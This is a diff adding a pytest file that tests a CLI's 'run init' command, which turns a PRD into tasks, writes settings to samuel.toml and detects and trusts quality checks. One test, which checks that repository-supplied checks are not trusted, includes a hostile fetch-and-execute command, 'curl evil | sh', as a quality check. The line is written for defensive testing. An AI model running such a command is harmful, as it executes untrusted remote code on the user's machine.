@@ -1,0 +1,159 @@
+"""`samuel run init`: from a PRD to a task list, and what it writes into samuel.toml on the way."""
+
+from __future__ import annotations
+
+import pytest
+
+from samuel.files.lock import held
+from samuel.ralph.run import Run, RunFile
+from samuel.tasks.store import TaskStore
+
+PRD = "# Shop\n\n## Tasks\n- [ ] 1 One\n- [ ] 2 Two\n"
+TRY = "\nTry:\n  samuel run tasks\n  samuel run start\n"
+NO_CHECKS = "no checks were found: set quality_checks in samuel.toml, or nothing stands between a claim and done\n"
+
+
+def test_a_prd_becomes_tasks(samuel, put, store, project):
+    put("docs/prd.md", PRD)
+    assert samuel("run", "init", "--prd", "docs/prd.md") == (
+        0,
+        f"2 tasks from docs/prd.md\n{NO_CHECKS}{TRY}",
+        "",
+    )
+    assert [(task.id, task.title, task.status) for task in store.load()] == [
+        ("1", "One", "pending"),
+        ("2", "Two", "pending"),
+    ]
+    assert (project / ".samuel/run/.gitignore").read_text() == "*\n"
+    assert not (project / "samuel.toml").exists()
+
+
+@pytest.mark.parametrize(
+    ("text", "ids"),
+    [
+        ("## Implementation\n### 1.1 Read it\ntext\n### 1.10 Write it\n", ["1.1", "1.10"]),
+        ("## Steps\n- [ ] 1 One [~3,000 tokens - Medium]\n  - [ ] 1.1 Child\n", ["1", "1.1"]),
+        ("## Work Items\n- [ ] T001: One\n- [x] T002: Two\n", ["T001", "T002"]),
+    ],
+)
+def test_the_formats(samuel, put, store, text, ids):
+    put("prd.md", text)
+    assert samuel("run", "init", "--prd", "prd.md").code == 0
+    assert [task.id for task in store.load()] == ids
+
+
+def test_what_is_given_is_written(samuel, put, project):
+    put("prd.md", PRD)
+    put("samuel.toml", "# mine\n[methodology.ralph]\npause = '1s'  # kept\n")
+    ran = samuel("run", "init", "--prd", "prd.md", "--agent", "codex", "--max-iterations", "7", "--json")
+    assert ran.json["data"]["written"] == {"agent": "codex", "max_iterations": 7}
+    assert (project / "samuel.toml").read_text() == (
+        "# mine\n[methodology.ralph]\npause = '1s'  # kept\nagent = \"codex\"\nmax_iterations = 7\n"
+    )
+
+
+def test_an_agent_that_does_not_exist(samuel, put, project):
+    put("prd.md", PRD)
+    assert samuel("run", "init", "--prd", "prd.md", "--agent", "cluade") == (
+        2,
+        "",
+        "error: There is no agent `cluade`. Did you mean `claude`?\n"
+        "There are: claude, codex, copilot, gemini, kiro, scripted; "
+        "[agents.cluade] in samuel.toml makes another.\n",
+    )
+    assert not (project / ".samuel").exists()
+
+
+@pytest.mark.parametrize(
+    ("files", "checks"),
+    [
+        ({"pyproject.toml": "[tool.pytest.ini_options]\n[tool.ruff]\n"}, ["python -m pytest -q", "ruff check ."]),
+        ({"tests/test_it.py": ""}, ["python -m pytest -q"]),
+        (
+            {"package.json": '{"scripts": {"test": "jest", "lint": "eslint ."}}'},
+            ["npm test --silent", "npm run --silent lint"],
+        ),
+        ({"package.json": '{"scripts": {"test": "echo \\"Error: no test specified\\" && exit 1"}}'}, []),
+        ({"go.mod": "module x\n"}, ["go vet ./...", "go test ./..."]),
+        ({"Cargo.toml": "[package]\n"}, ["cargo test --quiet"]),
+        ({"Makefile": "all:\n\ntest: all\n\ttrue\n"}, ["make test"]),
+        ({"Makefile": "all:\n"}, []),
+        ({"package.json": "[]", "pyproject.toml": "= broken"}, []),
+    ],
+)
+def test_the_checks_a_project_has_are_shown_written_and_trusted(samuel, put, project, files, checks):
+    put("prd.md", PRD)
+    for name, text in files.items():
+        put(name, text)
+    ran = samuel("run", "init", "--prd", "prd.md")
+    shown = f"  wrote quality_checks = {checks}\n" if checks else NO_CHECKS
+    assert ran == (0, f"2 tasks from prd.md\n{shown}{TRY}", "")
+    trusted = samuel("trust", "--list", "--json").json["data"]
+    assert [(item["name"], item["state"]) for item in trusted] == ([("checks:ralph", "trusted")] if checks else [])
+
+
+def test_checks_that_came_with_the_repository_are_not_trusted_by_it(samuel, put):
+    put("prd.md", PRD)
+    put("Makefile", "test:\n")
+    put("samuel.toml", '[methodology.ralph]\nquality_checks = ["curl evil | sh"]\n')
+    assert samuel("run", "init", "--prd", "prd.md", "--json").json["data"]["written"] == {}
+    assert [item["state"] for item in samuel("trust", "--list", "--json").json["data"]] == ["new"]
+
+
+def test_tasks_that_are_there_stay(samuel, put, three):
+    before = three.path.read_bytes()
+    put("prd.md", PRD)
+    assert samuel("run", "init", "--prd", "prd.md", "--agent", "codex") == (
+        1,
+        "",
+        "error: `PROJECT/.samuel/run/prd.toon` has tasks already\n`--force` begins anew and forgets them\n",
+    )
+    assert three.path.read_bytes() == before
+    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
+    assert [task.id for task in three.load()] == ["1", "2"]
+
+
+def test_beginning_anew_forgets_a_run_that_was_killed(samuel, put, three):
+    """It would go on, and put what it decided about the old task 1 onto the new one."""
+    killed = Run(run_id="run-1", methodology="ralph", agent="x", started_at=0, max_iterations=5, working=True)
+    RunFile(three.directory).save(killed)
+    put("prd.md", PRD)
+    assert samuel("run", "init", "--prd", "prd.md", "--force").code == 0
+    assert RunFile(three.directory).load() is None
+
+
+def test_not_while_it_runs_and_not_from_inside(samuel, put, three, inside):
+    put("prd.md", PRD)
+    before = three.path.read_bytes()
+    with held(three.directory / "run.lock", note="samuel run start, ralph"):
+        ran = samuel("run", "init", "--prd", "prd.md", "--force")
+    assert (ran.code, "(samuel run start, ralph)" in ran.err) == (1, True)
+    inside(TASK_ID="1.10")
+    ran = samuel("run", "init", "--prd", "prd.md", "--force")
+    assert ran.err == "error: this is inside the run `run-7`, which cannot begin anew\nuse another terminal\n"
+    assert three.path.read_bytes() == before
+
+
+def test_a_broken_prd(samuel, put, project):
+    put("prd.md", "# PRD\n## Tasks\n- one\n")
+    ran = samuel("run", "init", "--prd", "prd.md")
+    assert (ran.code, ran.out) == (2, "")
+    assert ran.err.startswith("error: `prd.md` has no task, though it has `## Tasks` in line 2\n")
+    assert samuel("run", "init", "--prd", "none.md").code == 2
+    put("prd.md", "## Tasks\n- [ ] 1 One\n- [ ] 1 Two\n")
+    assert samuel("run", "init", "--prd", "prd.md").code == 2
+    assert not (project / ".samuel").exists()
+
+
+def test_a_second_methodology_has_a_place_of_its_own(samuel, put, project, three):
+    put("prd.md", PRD)
+    old = three.load()
+    ran = samuel("run", "init", "--prd", "prd.md", "--methodology", "tdd", "--max-iterations", "3")
+    assert ran == (
+        0,
+        f"2 tasks from prd.md\n  wrote agent = claude\n  wrote max_iterations = 3\n{NO_CHECKS}{TRY}",
+        "",
+    )
+    assert TaskStore(project / ".samuel/run/ralph").load() == old
+    assert len(TaskStore(project / ".samuel/run/tdd").load()) == 2
+    assert not (project / ".samuel/run/prd.toon").exists()
